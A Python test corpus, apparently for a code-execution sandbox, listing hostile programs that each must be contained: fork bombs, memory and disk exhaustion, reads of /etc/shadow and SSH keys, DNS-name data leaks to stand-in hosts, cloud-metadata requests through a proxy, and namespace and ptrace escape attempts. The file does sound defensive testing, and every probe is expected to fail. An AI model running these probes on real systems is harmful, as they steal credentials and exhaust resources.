"""Hostile solutions: each is run for real in the isolation.

Every program is given with what its first answer must be (None when none may come), the faults that the report must
name, limits of its own, what the report must say that it tried and whom the proxy refused.
"""

# ruff: noqa: E501 -- a program reads best in one piece

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any

MIB = 1024 * 1024

# What most of them share: hear the first question, try something, answer with what became of it.
TELL = """
import ctypes, errno, json, os, signal, socket, sys, time
libc = ctypes.CDLL(None, use_errno=True)
asked = json.loads(sys.stdin.readline())
def tell(output):
    print(json.dumps({"id": asked["id"], "output": output}), flush=True)
def tried(function, *arguments):
    try:
        return function(*arguments) and "done"
    except OSError as error:
        return errno.errorcode[error.errno]
def called(result):
    return errno.errorcode[ctypes.get_errno()] if result < 0 else "done"
"""


# What those share that are let out: a connection to the proxy, and the status of its reply to a line.
PROXIED = """
def proxy():
    link = socket.socket()
    link.connect(("127.0.0.1", 3128))
    return link
def asked_proxy(line):
    with proxy() as link:
        link.sendall(line.encode() + b"\\r\\n\\r\\n")
        return link.recv(99).split()[1].decode()
"""


@dataclass(frozen=True)
class Hostile:
    """A program, the first answer it gets through, the faults that must be named."""

    code: str
    answer: Any = None
    faults: frozenset[str] = frozenset()
    limits: dict[str, int] = field(default_factory=dict)
    protocol: str = "jsonl"
    one_of: frozenset[str] = frozenset()
    tried: dict[str, list[str]] = field(default_factory=dict)
    form: dict[str, Any] = field(default_factory=dict)
    contacts: tuple[tuple[str, str], ...] = ()


def told(code: str, answer: Any, tried: dict[str, list[str]] | None = None, **limits: int) -> Hostile:
    """A program that tries something and answers with what became of it; the report must say what it tried."""
    return Hostile(TELL + code, answer, limits=limits, tried=tried or {})


def fault(code: str, *names: str, **limits: int) -> Hostile:
    """A program that ends in these faults."""
    return Hostile(TELL + code, None, frozenset(names), limits)


CORPUS: dict[str, Hostile] = {
    # Resources
    "forks without end": fault(
        "while True:\n  try: os.fork()\n  except OSError: pass", "no-answer", start_seconds=1, processes=16
    ),
    "counts its forks": told(
        "n = 0\ntry:\n  while True:\n    if os.fork() == 0: time.sleep(9)\n    n += 1\nexcept OSError as error:\n"
        "  tell([n <= 16, errno.errorcode[error.errno]])",
        [True, "EAGAIN"],
        processes=16,
    ),
    "starts threads without end": told(
        "import threading\nn = 0\ntry:\n  while True:\n    threading.Thread(target=time.sleep, args=(9,), daemon=True).start()\n"
        "    n += 1\nexcept RuntimeError:\n  tell(n <= 16)\n  os._exit(0)",
        True,
        processes=16,
    ),
    "fills its disk": told(
        "def fill():\n  with open('/scratch/a', 'wb') as file:\n    while True: file.write(bytes(65536))\ntell(tried(fill))",
        "ENOSPC",
        scratch_bytes=MIB,
    ),
    "writes a file over the limit": told(
        "def fill():\n  with open('/scratch/a', 'wb') as file:\n    while True: file.write(bytes(65536))\ntell(tried(fill))",
        "EFBIG",
        file_bytes=MIB // 2,
    ),
    "makes files without end": fault(
        "n = 0\nwhile True:\n  open('/scratch/%d' % n, 'w').close()\n  n += 1", "scratch-limit", scratch_files=500
    ),
    "fills shared memory": told(
        "def fill():\n  with open('/dev/shm/a', 'wb') as file:\n    while True: file.write(bytes(65536))\ntell(tried(fill))",
        "ENOSPC",
    ),
    "opens files without end": told(
        "def fill():\n  kept = []\n  while True: kept.append(os.dup(0))\ntell(tried(fill))", "EMFILE", open_files=64
    ),
    "eats memory at once": told(
        "try:\n  bytearray(1 << 30)\nexcept MemoryError:\n  tell('refused')", "refused", memory_bytes=64 * MIB
    ),
    "eats memory in many processes": fault(
        "for _ in range(12):\n  if os.fork() == 0:\n    kept = bytearray(b'x' * (40 << 20))\n    time.sleep(9)\ntime.sleep(9)",
        "memory-limit",
        memory_bytes=128 * MIB,
        processes=16,
        scratch_bytes=4096,
    ),
    "hides memory in a file without a name": told("tell(tried(os.memfd_create, 'a'))", "EPERM"),
    "hides memory in System V segments": told("tell(called(libc.shmget(0, 1 << 20, 0o1600)))", "EPERM"),
    "computes without end": fault("while True: pass", "cpu-limit", cpu_seconds=1),
    "sleeps for ever": fault("time.sleep(99)", "no-answer", start_seconds=1),
    "reads and never answers": fault("for line in sys.stdin: pass\ntime.sleep(99)", "no-answer", start_seconds=1),
    "answers a letter a second": fault(
        "while True:\n  sys.stdout.write('a')\n  sys.stdout.flush()\n  time.sleep(0.2)", "no-answer", start_seconds=1
    ),
    "runs over its time": fault(
        "tell(1)\nfor line in sys.stdin:\n  time.sleep(0.4)\n  asked = json.loads(line)\n  tell(1)",
        "wall-limit",
        wall_seconds=1,
    ),
    # Output
    "prints gigabytes": fault("while True: sys.stdout.write('a' * 65536)", "output-limit", output_bytes=4 * MIB),
    "floods its error output": fault(
        "while True: sys.stderr.write('a' * 65536)", "error-output-limit", error_bytes=MIB
    ),
    "prints a line without end": fault("print('a' * (1 << 20), flush=True)", "oversized-line", line_bytes=65536),
    "prints a long line inside another": fault(
        'print(\'{"id":"1","output":"\' + \'a\' * 70000 + \'"}\')', "oversized-line", line_bytes=65536
    ),
    "prints nonsense": fault("print('\\x00\\x1b[2J{]', flush=True)", "not-json"),
    "prints broken characters": fault('sys.stdout.buffer.write(b\'{"id":"1","output":"\\xff\\xfe"}\\n\')', "not-json"),
    "nests without end": fault("print('[' * 100000, flush=True)", "not-json"),
    "answers with no object": fault("print('[1, 2]', flush=True)", "not-an-answer"),
    "answers without an id": fault("print(json.dumps({'output': 1}), flush=True)", "not-an-answer"),
    "answers with neither output nor error": fault(
        "print(json.dumps({'id': asked['id']}), flush=True)", "not-an-answer"
    ),
    "answers for unknown ids": fault(
        "for name in ('99', '-1', '01', 'x', '1e0', '9' * 40): print(json.dumps({'id': name, 'output': 1}), flush=True)",
        "unknown-id",
    ),
    "answers before it is asked": fault("print(json.dumps({'id': '2', 'output': 1}), flush=True)", "unknown-id"),
    "answers twice": Hostile(TELL + "tell(0)\ntell(1)\ntime.sleep(0.2)", 0, frozenset({"duplicate"})),
    "answers that it cannot": fault(
        "print(json.dumps({'id': asked['id'], 'error': 'no \\x1b[31m'}), flush=True)", "error-answer"
    ),
    "closes its output": fault("os.close(1)\ntime.sleep(99)", "no-answer", start_seconds=1),
    "closes its input": fault("os.close(0)\ntime.sleep(99)", "no-answer", start_seconds=1),
    "closes everything": fault("os.close(0)\nos.close(1)\nos.close(2)\ntime.sleep(99)", "no-answer", start_seconds=1),
    "ends at once": Hostile("raise SystemExit(3)", faults=frozenset({"early-exit"})),
    "is no program": Hostile("this is not Python", faults=frozenset({"early-exit"})),
    "dies by a signal": fault("os.kill(os.getpid(), signal.SIGSEGV)", "early-exit"),
    "does not end": Hostile(
        TELL + "tell(0)\nfor line in sys.stdin:\n  asked = json.loads(line)\n  tell(1)\ntime.sleep(99)",
        0,
        frozenset({"does-not-end"}),
    ),
    # Escapes
    "connects to an internet address": told(
        "tell(tried(socket.socket(socket.AF_INET, socket.SOCK_STREAM).connect, ('192.0.2.1', 443)))",
        "EACCES",
        tried={"addresses": ["192.0.2.1:443"]},
    ),
    "connects to many addresses": told(
        "for n in range(3):\n  for _ in range(2): tried(socket.socket(socket.AF_INET6).connect, ('2001:db8::%d' % n, 25))\ntell('tried')",
        "tried",
        tried={"addresses": ["[2001:db8::1]:25", "[2001:db8::2]:25", "[2001:db8::]:25"]},
    ),
    "sends packets": told(
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "tell([tried(s.sendto, b'x', ('192.0.2.2', 9)), tried(s.sendmsg, [b'x'], [], 0, ('192.0.2.3', 9))])",
        ["EACCES", "EACCES"],
        tried={"addresses": ["192.0.2.2:9", "192.0.2.3:9"]},
    ),
    "smuggles data out in names": told(
        "try:\n  socket.getaddrinfo('c2VjcmV0.example.org', 443)\nexcept socket.gaierror as error:\n  tell(error.errno < 0)",
        True,
        tried={"names": ["c2VjcmV0.example.org"]},
    ),
    "asks a name server of its own": told(
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.connect(('192.0.2.53', 53))\n"
        "s.send(bytes(4) + b'\\0\\1' + bytes(6) + b'\\4leak\\7example\\0\\0\\1\\0\\1')\ntell(len(s.recv(99)))",
        0,
        tried={"names": ["leak.example"], "addresses": ["192.0.2.53:53"]},
    ),
    "serves the internet": told("tell(tried(socket.socket(socket.AF_INET).bind, ('0.0.0.0', 80)))", "EINVAL"),
    "makes internet sockets without end": told(
        "import resource\nkept = []\ndef more():\n  while True: kept.append(socket.socket(socket.AF_INET))\n"
        "first = tried(more)\nkept.clear()\ntime.sleep(0.5)\ntell([first, tried(socket.socket, socket.AF_INET) or 'again'])",
        ["EACCES", "done"],
        open_files=1024,
    ),
    "looks for files of others": told(
        "tell([tried(open, path) for path in ('/root/.ssh/id_ed25519', '../home/x', '/etc/../etc/shadow')])",
        ["ENOENT", "ENOENT", "ENOENT"],
        tried={"files": ["/etc/shadow", "/home/x", "/root/.ssh/id_ed25519"]},
    ),
    "hides what it looks for by its folder": told(
        "os.chdir('/etc')\nhere = os.open('/', os.O_PATH)\n"
        "tell([tried(open, 'shadow'), tried(lambda: os.open('home/y', 0, dir_fd=here))])",
        ["ENOENT", "ENOENT"],
        tried={"files": ["/etc/shadow", "/home/y"]},
    ),
    "hides its memory": told(
        "libc.prctl(4, 0, 0, 0, 0)\ntell(tried(socket.socket(socket.AF_INET).connect, ('192.0.2.9', 1)))", "EACCES"
    ),
    "starts programs": told(
        "import subprocess\ntell([subprocess.run(['/usr/bin/true']).returncode, tried(subprocess.run, ['/usr/bin/nc'])])",
        [0, "ENOENT"],
        tried={"programs": ["/usr/bin/nc", "/usr/bin/true"]},
    ),
    "asks the node without end": fault(
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nwhile True: tried(s.sendto, b'x', ('192.0.2.1', 9))",
        "no-answer",
        start_seconds=2,
    ),
    "points at nothing": told(
        "tell([called(libc.connect(0, ctypes.c_void_p(n), 16)) for n in (0, 8, (1 << 64) - 4096)])", ["EFAULT"] * 3
    ),
    "writes a file that only Landlock forbids": told("tell(tried(open, '/proc/self/comm', 'w'))", "EACCES"),
    "opens a raw socket": told("tell(tried(socket.socket, socket.AF_PACKET, socket.SOCK_RAW))", "EACCES"),
    "opens a netlink socket": told("tell(tried(socket.socket, socket.AF_NETLINK, socket.SOCK_RAW))", "EACCES"),
    "connects to a socket by an abstract name": told(
        "tell(tried(socket.socket(socket.AF_UNIX).connect, b'\\x00/tmp/.X11-unix/X0'))", "ECONNREFUSED"
    ),
    "reads the password file": told("tell(tried(open, '/etc/shadow'))", "ENOENT"),
    "reads the node's home": told(
        "tell([tried(os.listdir, '/home'), tried(os.listdir, '/var/lib')])", ["ENOENT", "ENOENT"]
    ),
    "writes over itself": told("tell(tried(open, '/solution/main.py', 'w'))", "EROFS"),
    "writes outside its scratch folder": told(
        "tell([tried(open, path + '/x', 'w') for path in ('', '/usr', '/dev', '/sild', '/packages')])",
        ["EROFS", "EROFS", "EROFS", "ENOENT", "ENOENT"],
    ),
    "kills its parent": told(
        "tried(os.kill, os.getppid(), 9)\ntried(os.kill, -1, 9)\ntried(os.kill, 1, 9)\ntime.sleep(0.1)\ntell('both live')",
        "both live",
    ),
    "looks at other processes": told("tell(len([name for name in os.listdir('/proc') if name.isdigit()]))", 2),
    "traces another process": told("tell(called(libc.ptrace(16, 1, 0, 0)))", "EPERM"),
    "reads another process's memory": told("tell(called(libc.process_vm_readv(1, 0, 0, 0, 0, 0)))", "EPERM"),
    "mounts": told("tell(called(libc.mount(b'none', b'/scratch', b'tmpfs', 0, 0)))", "EPERM"),
    "unmounts": told("tell(called(libc.umount2(b'/scratch', 2)))", "EPERM"),
    "changes its root": told("tell(tried(os.chroot, '/scratch'))", "EPERM"),
    "makes a user namespace": told("tell(called(libc.unshare(0x10000000)))", "EPERM"),
    "makes a user namespace by clone": told(
        "tell(called(libc.syscall(56 if os.uname().machine == 'x86_64' else 220, 0x10000011, 0, 0, 0, 0)))", "EPERM"
    ),
    "makes a namespace by clone3": told("tell(called(libc.syscall(435, 0, 0)))", "ENOSYS"),
    "enters another namespace": told("tell(called(libc.setns(0, 0)))", "EPERM"),
    "becomes root": told("tell(tried(os.setuid, 0) in ('EPERM', 'EINVAL'))", True),
    "makes a device": told("tell(tried(os.mknod, '/scratch/disk', 0o60600, os.makedev(8, 0)))", "EPERM"),
    "runs a program that changes its user": told("tell(os.system('su -c id root >/dev/null 2>&1') != 0)", True),
    "types into the node's terminal": told("import fcntl\ntell(tried(fcntl.ioctl, 0, 0x5412, b'x'))", "EPERM"),
    "loads a program into the kernel": told(
        "tell(called(libc.syscall(321 if os.uname().machine == 'x86_64' else 280, 0, 0, 0)))", "EPERM"
    ),
    "uses the kernel's key ring": told(
        "tell(called(libc.syscall(250 if os.uname().machine == 'x86_64' else 219, 0, -3, 1)))", "EPERM"
    ),
    "uses io_uring": told("tell(called(libc.syscall(425, 8, 0)))", "EPERM"),
    "raises its own limits": told(
        "import resource\ndef more(): resource.setrlimit(resource.RLIMIT_NPROC, (9999, 9999))\n"
        "try:\n  more()\nexcept ValueError:\n  tell('refused')",
        "refused",
    ),
    "leaves links behind": told(
        "os.symlink('/', '/scratch/root')\nos.symlink('/etc/passwd', '/scratch/results')\ntell(tried(os.listdir, '/scratch/root/home'))",
        "ENOENT",
    ),
    "leaves a process behind": told(
        "if os.fork() == 0:\n  os.setsid()\n  if os.fork(): os._exit(0)\n  time.sleep(99)\ntell('left')", "left"
    ),
    "ignores every signal": fault(
        "for number in range(1, 32):\n  tried(signal.signal, number, signal.SIG_IGN) if number not in (9, 19) else 0\ntime.sleep(99)",
        "no-answer",
        start_seconds=1,
    ),
    # The way out
    "asks the proxy for the cloud's secrets": Hostile(
        TELL + PROXIED + "tell(asked_proxy('GET http://169.254.169.254/ HTTP/1.1'))",
        "403",
        form={"egress": ["169.254.169.254:80"]},
        contacts=(("169.254.169.254:80", "not-public"),),
    ),
    "asks the proxy for the node itself": Hostile(
        TELL + PROXIED + "tell(asked_proxy('CONNECT localhost:8000 HTTP/1.1'))",
        "403",
        form={"egress": ["localhost:8000"]},
        contacts=(("localhost:8000", "not-public"),),
    ),
    "asks the proxy for another place": Hostile(
        TELL
        + PROXIED
        + "tell([asked_proxy('CONNECT %s HTTP/1.1' % place) for place in ('b.example:443', 'a.example:80')])",
        ["403", "403"],
        form={"egress": ["a.example:443"]},
        contacts=(("a.example:80", "not-listed"), ("b.example:443", "not-listed")),
    ),
    "goes round the proxy": Hostile(
        TELL + "tell(tried(socket.socket(socket.AF_INET).connect, ('192.0.2.1', 443)))",
        "EACCES",
        tried={"addresses": ["192.0.2.1:443"]},
        form={"egress": ["a.example:443"]},
    ),
    "talks nonsense to the proxy": Hostile(
        TELL + PROXIED + "tell([asked_proxy(line) for line in ('x', 'GET / HTTP/1.1', '\x16\x03')])",
        ["403", "403", "403"],
        form={"egress": ["a.example:443"]},
        contacts=(("", "bad-request"),),
    ),
    "holds the proxy's connections": Hostile(
        TELL + PROXIED + "kept = [proxy() for _ in range(40)]\ntell(sum(one.recv(1) == b'' for one in kept[32:]))",
        8,
        form={"egress": ["a.example:443"]},
    ),
    # The chat protocol
    "serves on a port and reaches out": Hostile(
        "import os, socket\n"
        "server = socket.create_server(('127.0.0.1', int(os.environ['SILD_PORT'])))\n"
        "while True:\n  link, _ = server.accept()\n  if not link.recv(65536): continue\n"
        "  out = socket.socket()\n  code = out.connect_ex(('192.0.2.1', 80))\n"
        '  text = b\'{"choices": [{"message": {"content": "%d"}}]}\' % code\n'
        "  link.sendall(b'HTTP/1.1 200 OK\\r\\nContent-Length: %d\\r\\n\\r\\n' % len(text) + text)\n  link.close()",
        "13",
        protocol="chat",
        tried={"addresses": ["192.0.2.1:80"]},
        form={"start": {"command": ["python3", "main.py"], "protocol": "chat", "port": 8080}},
    ),
    "never listens": Hostile(
        "import time; time.sleep(99)",
        None,
        frozenset({"early-exit"}),
        {"start_seconds": 1},
        "chat",
        frozenset({"no-answer", "early-exit"}),
    ),
    "replies without end": Hostile(
        "import os, socket\n"
        "server = socket.socket(socket.AF_UNIX); server.bind(os.environ['SILD_SOCKET']); server.listen(9)\n"
        "while True:\n  link, _ = server.accept()\n  try:\n    if not link.recv(65536): continue\n"
        "    link.sendall(b'HTTP/1.1 200 OK\\r\\n\\r\\n')\n    while True: link.sendall(bytes(65536))\n  except OSError: pass",
        None,
        frozenset({"error-answer"}),
        {"line_bytes": 65536},
        "chat",
    ),
    "replies with nonsense": Hostile(
        "import os, socket\n"
        "server = socket.socket(socket.AF_UNIX); server.bind(os.environ['SILD_SOCKET']); server.listen(9)\n"
        "while True:\n  link, _ = server.accept()\n  link.recv(65536)\n  link.sendall(b'HTTP/1.1 200 OK\\r\\n\\r\\n{\"choices\": 3}')\n  link.close()",
        None,
        frozenset({"error-answer"}),
        {},
        "chat",
    ),
}
